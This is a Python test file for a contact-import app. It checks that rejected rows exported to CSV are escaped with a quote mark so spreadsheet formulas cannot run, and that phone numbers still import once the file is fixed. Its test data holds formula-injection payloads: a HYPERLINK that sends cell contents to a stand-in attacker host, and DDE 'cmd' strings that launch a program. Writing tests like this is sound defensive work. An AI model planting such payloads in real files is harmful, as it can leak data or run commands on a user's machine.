"""The rejected-rows CSV opens in a spreadsheet as text: no cell from an imported file runs as
a formula, and the numbers in it still import once the row is fixed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from desktop.adapters.importing import ImportOptions, import_file
from desktop.adapters.store import Store
from desktop.core.numbers import NumberPolicy

US = ImportOptions(NumberPolicy("US"))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click to fix")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_saved_as_text_and_numbers_survive_the_fix(tmp_path: Path) -> None:
    source = tmp_path / "leads.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Name", "Phone", "Notes", "=Header"])
        writer.writerow(["Ann Lee", "+1 415 555 0141", "fine", ""])
        for cell in HOSTILE:
            # No name: rejected, and so written to the CSV the person opens to fix them.
            writer.writerow(["", "+1 415 555 0142", cell, cell])
    store = Store.open(tmp_path / "cc.sqlite3")
    report = import_file(store, source, US)
    assert len(report.rejected) == len(HOSTILE)
    out = tmp_path / "rejected.csv"
    report.write_rejected_csv(out)

    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Reason", "Name", "Phone", "Notes", "'=Header"]
    assert [r[3] for r in rows[1:]] == ["'" + cell for cell in HOSTILE]
    assert [r[4] for r in rows[1:]] == ["'" + cell for cell in HOSTILE]
    assert {r[2] for r in rows[1:]} == {"'+1 415 555 0142"}
    # Every cell quoted, as OWASP asks on top of the quote mark.
    assert text.startswith('"Reason","Name",') and '\r\n"line 3: ' in text

    # The person fills in the names and imports the fixed file: the numbers read as numbers.
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(rows[0])
        for i, row in enumerate(rows[1:]):
            writer.writerow([row[0], f"Prospect {i}", *row[2:]])
    again = import_file(store, fixed, US)
    assert again.rejected == [] and again.unreadable_numbers == 0
    numbers = store.connection.execute("SELECT DISTINCT e164 FROM phone_numbers").fetchall()
    assert sorted(numbers) == [("+14155550141",), ("+14155550142",)]
